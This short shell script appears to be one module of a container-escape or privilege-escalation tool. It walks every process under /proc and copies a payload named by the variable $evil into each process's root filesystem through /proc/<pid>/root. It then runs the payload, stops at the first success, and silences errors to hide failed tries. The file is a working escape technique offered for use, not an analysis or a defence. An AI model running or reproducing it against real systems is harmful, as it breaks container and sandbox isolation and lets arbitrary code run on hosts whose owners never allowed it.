# shellcheck shell=sh disable=SC2154
#
# process-roots - go to the rootfs through the root of each process, kernel threads included
#
# SPDX-License-Identifier: MIT

for process in /proc/[0-9]*; do
	cp "$evil" "$process/root/evil" && "$process/root/evil" && break
done 2>/dev/null
